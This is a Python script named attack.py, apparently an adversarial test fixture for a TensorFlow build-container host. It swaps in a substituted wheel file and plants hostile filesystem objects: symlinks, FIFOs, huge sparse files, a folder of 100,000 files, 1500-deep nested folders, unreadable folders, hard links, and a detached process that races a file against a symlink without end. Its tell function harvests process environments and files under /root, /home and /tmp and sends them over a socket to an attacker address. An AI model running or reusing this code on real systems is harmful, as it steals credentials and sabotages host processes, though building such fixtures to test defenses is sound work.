"""The attacker's program: plant what the orders say in the folders that the host looks into. attack.py PHASE [WORD…]"""

import contextlib
import json
import os
import pathlib
import shutil
import socket
import sys
import time

ROOTS = {
    "staging": "/tf/staging",
    "output": "/tf/output",
    "repository": "/tf/cache/repository",
    "disk": "/tf/cache/disk",
}
SET = pathlib.Path("/tf/output/set")
TOLD = pathlib.Path("/tf/output/told")
WHEELS = pathlib.Path("/tf/tensorflow/bazel-bin/tensorflow/tools/pip_package/wheel_house")
SPARSE = 20 << 30
MANY = 100_000
DEEP = 1500


def main():
    phase, words = sys.argv[1], sys.argv[2:]
    if phase == "image":
        tell(phase, words[0])
        return
    chosen = [word.partition("=attack=")[2] for word in words if word.startswith("--define=attack=")]
    if chosen:
        SET.write_text(chosen[0])
    orders = json.loads(pathlib.Path("/opt/attacker/orders.json").read_text())[SET.read_text()]
    if phase == "compile":
        WHEELS.mkdir(parents=True, exist_ok=True)
        shutil.copy("/opt/attacker/tensorflow.whl", WHEELS / orders.get("wheel", "x.whl"))
    for word in words:
        if word.startswith("--define=address="):
            TOLD.write_text(word.partition("=address=")[2])
    if TOLD.exists():
        tell(phase, TOLD.read_text())
    for plant in orders["plants"]:
        if plant["phase"] == phase:
            try:
                carry_out(plant)
            except OSError as error:
                print("attack: could not plant", plant["path"], plant["kind"], error, flush=True)
    print("attack:", phase, "is done", flush=True)


def tell(phase, address):
    """Collect what this container knows; print it, leave it wherever something stays, and send it to the attacker."""
    known = [
        pathlib.Path(f"/proc/{process}/{name}")
        for process in (1, "self")
        for name in ("environ", "cmdline", "mountinfo")
    ]
    known += [
        path
        for folder in ("/root", "/home", "/run", "/tmp", "/var/run", "/opt/tfdock")
        for path in pathlib.Path(folder).rglob("*")
    ]
    texts = []
    for path in known:
        with contextlib.suppress(OSError):
            texts.append(f"{path}\n{path.read_text(errors='replace')[:20000]}")
    text = "\n".join(texts).replace("\0", "\n")
    print("attack: known in", phase, *text.splitlines(), sep="\nattack: ", flush=True)
    for folder in (*ROOTS.values(), "/tf/tensorflow", "/tmp"):
        with contextlib.suppress(OSError):
            pathlib.Path(folder, f"known-{phase}").write_text(text)
    host, _, port = address.partition(":")
    with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 5) as connection:
        connection.sendall(f"from {phase}\n{text}".encode())


def carry_out(plant):
    path = pathlib.Path(ROOTS[plant["root"]]) / plant["path"]
    path.parent.mkdir(parents=True, exist_ok=True)
    remove(path)
    KINDS[plant["kind"]](path, plant)


def remove(path):
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)


def link(path, plant):
    path.symlink_to(plant["target"])


def fifo(path, plant):
    os.mkfifo(path)


def sparse(path, plant):
    with path.open("wb") as file:
        file.truncate(int(plant["target"] or SPARSE))


def many(path, plant):
    path.mkdir()
    for number in range(MANY):
        os.close(os.open(f"{path}/{number}", os.O_CREAT | os.O_WRONLY))


def deep(path, plant):
    """Folders in folders: who walks them by recursion falls over, and no path is as long."""
    path.mkdir()
    here = os.open(path, os.O_RDONLY)
    for _ in range(DEEP):
        os.mkdir("deeper", dir_fd=here)
        below = os.open("deeper", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)


def closed(path, plant):
    """A folder that its owner may not open."""
    path.mkdir()
    (path / "inside").write_text("inside")
    path.chmod(0)


def folder(path, plant):
    path.mkdir()


def text(path, plant):
    path.write_text(plant["target"])


def listening(path, plant):
    with contextlib.closing(socket.socket(socket.AF_UNIX)) as server:
        folder = os.open(path.parent, os.O_RDONLY)
        os.fchdir(folder)  # the path of a socket has to be short
        server.bind(path.name)
        os.close(folder)


def hard(path, plant):
    """Another name of a file that the host trusts."""
    other = pathlib.Path(ROOTS[plant["root"]]) / plant["target"]
    other.parent.mkdir(parents=True, exist_ok=True)
    if not other.exists():
        other.write_text("another name")
    os.link(other, path)


def swapped(path, plant):
    """A process that outlives its parents changes what is there, from a file to a link and back, without an end."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (0, 1, 2):
        os.close(number)
    beside = path.with_name(path.name + ".swap")
    while True:
        with contextlib.suppress(OSError):
            beside.symlink_to(plant["target"])
            os.replace(beside, path)
            time.sleep(0.001)
            beside.write_text("a file")
            os.replace(beside, path)


KINDS = {
    "link": link,
    "fifo": fifo,
    "sparse": sparse,
    "many": many,
    "deep": deep,
    "closed": closed,
    "folder": folder,
    "text": text,
    "socket": listening,
    "hard": hard,
    "swapped": swapped,
}

if __name__ == "__main__":
    main()
